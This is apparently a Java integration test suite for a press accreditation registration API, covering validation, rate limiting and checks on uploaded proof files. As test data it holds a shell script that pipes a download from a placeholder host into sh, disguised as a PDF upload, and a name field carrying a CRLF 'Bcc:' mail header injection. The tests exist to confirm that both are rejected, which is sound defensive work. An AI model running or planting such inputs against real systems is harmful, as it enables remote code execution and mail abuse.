package de.lagezentrum.briefing.accreditation.web;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;

import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.test.web.servlet.request.RequestPostProcessor;
import tools.jackson.databind.JsonNode;

import de.lagezentrum.IntegrationTest;
import de.lagezentrum.briefing.AccreditationStatus;
import de.lagezentrum.briefing.accreditation.TestAccreditations;
import de.lagezentrum.organisation.Role;
import de.lagezentrum.organisation.TestOrganisation;
import de.lagezentrum.organisation.TestOrganisation.TestTenant;
import de.lagezentrum.platform.security.CurrentUser;
import de.lagezentrum.platform.security.SecurityProperties;

import static de.lagezentrum.ApiTestSupport.bearer;
import static de.lagezentrum.ApiTestSupport.json;
import static de.lagezentrum.ApiTestSupport.read;
import static de.lagezentrum.briefing.accreditation.TestAccreditations.address;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * The public registration in API v1: one answer for every address, field errors as problem details,
 * the rate limit, and the optional proof (PDF or image, told by its content) that the press office opens.
 * A registration with a bearer token belongs to the caller's municipality, so each test has its own.
 */
@IntegrationTest
class AccreditationApiWebTests {

    private static final String API = "/api/v1/press/accreditations";
    private static final byte[] PDF = "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
            .getBytes(StandardCharsets.US_ASCII);
    private static final byte[] SCRIPT = "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"
            .getBytes(StandardCharsets.UTF_8);

    @Autowired
    MockMvcTester mvc;

    @Autowired
    TestOrganisation organisation;

    @Autowired
    TestAccreditations accreditations;

    @Autowired
    SecurityProperties security;

    TestTenant tenant;
    CurrentUser press;
    String caller;

    @BeforeEach
    void tenant() {
        tenant = organisation.newTenant("Apistadt " + UUID.randomUUID());
        press = tenant.user("Petra Presse", Role.PRESS_OFFICE);
        caller = bearer(mvc, tenant.user("Erika Mitarbeiterin", Role.EMPLOYEE).username(), TestOrganisation.PASSWORD);
    }

    @Test
    void everyAddressGetsTheSameAnswerWhateverItsState() throws Exception {
        String email = address("zustand");
        MvcTestResult fresh = register(email);
        assertThat(fresh).hasStatus(202);
        assertThat(read(fresh).get("status").asString()).isEqualTo("ACCEPTED");
        UUID id = accreditations.idOf(email).orElseThrow();
        String pressToken = bearer(mvc, press.username(), TestOrganisation.PASSWORD);

        MvcTestResult unconfirmed = register(email);
        accreditations.confirmByMail(email, 2);
        MvcTestResult pending = register(email);
        assertThat(mvc.post().uri(API + "/" + id + "/request-information").header(HttpHeaders.AUTHORIZATION, pressToken)
                .contentType(MediaType.APPLICATION_JSON).content(json("message", "Welche Redaktion?"))).hasStatusOk();
        MvcTestResult asked = register(email);
        assertThat(mvc.post().uri(API + "/" + id + "/approve").header(HttpHeaders.AUTHORIZATION, pressToken))
                .hasStatusOk();
        MvcTestResult accredited = register(email);
        MvcTestResult unknown = register(address("unbekannt"));

        for (MvcTestResult answer : List.of(unconfirmed, pending, asked, accredited, unknown)) {
            assertThat(answer.getResponse().getStatus()).isEqualTo(202);
            assertThat(answer.getResponse().getContentAsString()).isEqualTo(fresh.getResponse().getContentAsString());
            assertThat(answer.getResponse().getContentType()).isEqualTo(fresh.getResponse().getContentType());
        }
        assertThat(accreditations.count(email)).isEqualTo(1);
        accreditations.awaitEventsHandled();
        assertThat(accreditations.mailsTo(email)).extracting(TestAccreditations::subject).contains(
                "Bitte bestätigen Sie Ihre Akkreditierung", "Ihre Akkreditierung liegt bereits vor",
                "Sie sind bereits akkreditiert");
        assertThat(accreditations.status(id)).isEqualTo(AccreditationStatus.APPROVED);
    }

    @Test
    void badFieldsAreProblemsNamingTheFieldAndStoreNothing() throws Exception {
        String email = address("feld");
        for (var bad : List.of(
                new Bad(json("name", "N".repeat(50_000), "outlet", "Anzeiger", "email", email), "name"),
                new Bad(json("name", "Jana", "outlet", "O".repeat(201), "email", email), "outlet"),
                new Bad(json("name", "Jana\r\nBcc: alle@example.org", "outlet", "Anzeiger", "email", email), "name"),
                new Bad(json("name", "Jana", "outlet", "Anzeiger", "email", "keine-adresse"), "email"),
                new Bad(json("name", "Jana", "outlet", "Anzeiger"), "email"),
                new Bad(json("name", "Jana", "outlet", "Anzeiger", "email", email, "tenantId", tenant.id().toString()),
                        "tenantId"))) {
            MvcTestResult result = mvc.post().uri(API).contentType(MediaType.APPLICATION_JSON).content(bad.body())
                    .exchange();
            assertThat(result).as(bad.field()).hasStatus(400);
            assertThat(result.getResponse().getContentType()).startsWith("application/problem+json");
            JsonNode problem = read(result);
            assertThat(problem.get("errors").valueStream().map(error -> error.get("field").asString()))
                    .as(bad.body().substring(0, Math.min(80, bad.body().length()))).contains(bad.field());
        }
        assertThat(accreditations.count(email)).isZero();
    }

    /**
     * The token bucket holds the configured number of requests and refills at that rate per minute: so the
     * first that many pass, and the refusal comes before the refill since the first request allows more.
     */
    @Test
    void registrationIsRateLimitedPerClientAddress() throws Exception {
        String address = "198.51.100." + (1 + new java.util.Random().nextInt(254));
        int limit = security.rateLimitPerMinute();
        long start = System.nanoTime();
        int first429 = -1;
        for (int i = 0; i < 3 * limit && first429 < 0; i++) {
            // Refused input counts like any other request, and is cheap: no row, no mail.
            int status = mvc.post().uri(API).with(from(address)).contentType(MediaType.APPLICATION_JSON).content("{}")
                    .exchange().getResponse().getStatus();
            if (status == 429) {
                first429 = i;
            }
            else {
                assertThat(status).isEqualTo(400);
            }
        }
        double minutes = (System.nanoTime() - start) / 60e9;
        assertThat(first429).as("the first %d requests pass", limit).isGreaterThanOrEqualTo(limit);
        assertThat(first429).as("refused once the bucket and its refill are used up")
                .isLessThanOrEqualTo(limit + (int) Math.ceil(minutes * limit) + 1);
        String email = address("gebremst");

        MvcTestResult limited = mvc.post().uri(API).with(from(address)).contentType(MediaType.APPLICATION_JSON)
                .content(json("name", "Jana", "outlet", "Anzeiger", "email", email)).exchange();

        assertThat(limited).hasStatus(429);
        assertThat(limited.getResponse().getHeader(HttpHeaders.RETRY_AFTER)).isNotBlank();
        assertThat(read(limited).get("type").asString()).isEqualTo("/problems/rate-limited");
        assertThat(accreditations.count(email)).isZero();
        assertThat(mvc.post().uri(API).with(from("198.51.100.255")).contentType(MediaType.APPLICATION_JSON)
                .content(json("name", "Jana", "outlet", "Anzeiger", "email", email))).as("another address")
                .hasStatus(202);
    }

    @Test
    void aProofIsStoredByItsContentAndOpenedByThePressOffice() throws Exception {
        String email = address("nachweis");
        MvcTestResult sent = mvc.post().uri("/presse/akkreditierung").multipart()
                .file(new MockMultipartFile("proof", "presseausweis.pdf", "application/pdf", PDF))
                .param("name", "Jana Schreiber").param("outlet", "Anzeiger").param("email", email)
                .with(length()).exchange();
        assertThat(sent).hasStatus3xxRedirection();
        UUID id = accreditations.idOf(email).orElseThrow();

        String pressToken = bearer(mvc, "presse", "Demo-Lagezentrum-2026");
        MvcTestResult proof = mvc.get().uri(API + "/" + id + "/proof").header(HttpHeaders.AUTHORIZATION, pressToken)
                .exchange();
        assertThat(proof).hasStatusOk().hasContentType(MediaType.APPLICATION_PDF);
        assertThat(proof.getResponse().getContentAsByteArray()).isEqualTo(PDF);
        assertThat(read(mvc.get().uri(API + "/" + id).header(HttpHeaders.AUTHORIZATION, pressToken).exchange())
                .get("accreditation").get("hasProof").asBoolean()).isTrue();
        assertThat(mvc.get().uri(API + "/" + id + "/proof").header(HttpHeaders.AUTHORIZATION,
                bearer(mvc, press.username(), TestOrganisation.PASSWORD))).as("another municipality").hasStatus(404);
    }

    @Test
    void aScriptDisguisedAsProofIsRefusedAndNothingIsStored() throws Exception {
        String email = address("skript");
        MvcTestResult page = mvc.post().uri("/presse/akkreditierung").multipart()
                .file(new MockMultipartFile("proof", "presseausweis.pdf", "application/pdf", SCRIPT))
                .param("name", "Jana Schreiber").param("outlet", "Anzeiger").param("email", email)
                .with(length()).exchange();

        assertThat(page).hasStatus(400);
        var html = Jsoup.parse(page.getResponse().getContentAsString());
        assertThat(html.select(".error-summary a[href=#proof]").text()).contains("application/x-sh");
        assertThat(html.getElementById("proof").attr("aria-invalid")).isEqualTo("true");

        MvcTestResult api = mvc.post().uri(API).header(HttpHeaders.AUTHORIZATION, caller).multipart()
                .file(new MockMultipartFile("proof", "auftrag.png", "image/png", SCRIPT))
                .param("name", "Jana Schreiber").param("outlet", "Anzeiger").param("email", email)
                .with(length()).exchange();
        assertThat(api).hasStatus(415);
        assertThat(read(api).get("type").asString()).isEqualTo("/problems/unsupported-file-type");
        assertThat(accreditations.count(email)).isZero();

        assertThat(mvc.post().uri(API).header(HttpHeaders.AUTHORIZATION, caller).multipart()
                .file(new MockMultipartFile("proof", "auftrag.pdf", "application/pdf", PDF))
                .param("name", "Jana Schreiber").param("outlet", "Anzeiger").param("email", email)
                .with(length())).as("the same as multipart with a real PDF").hasStatus(202);
        assertThat(accreditations.count(email)).isEqualTo(1);
    }

    private MvcTestResult register(String email) {
        return mvc.post().uri(API).header(HttpHeaders.AUTHORIZATION, caller).contentType(MediaType.APPLICATION_JSON)
                .content(json("name", "Jana Schreiber", "outlet", "Musterstädter Anzeiger", "email", email)).exchange();
    }

    private static RequestPostProcessor from(String address) {
        return request -> {
            request.setRemoteAddr(address);
            return request;
        };
    }

    /** MockMvc sends no body length with multipart requests; a browser always does, and uploads need it. */
    private static RequestPostProcessor length() {
        return request -> {
            request.setContent(new byte[4096]);
            return request;
        };
    }

    private record Bad(String body, String field) {
    }
}
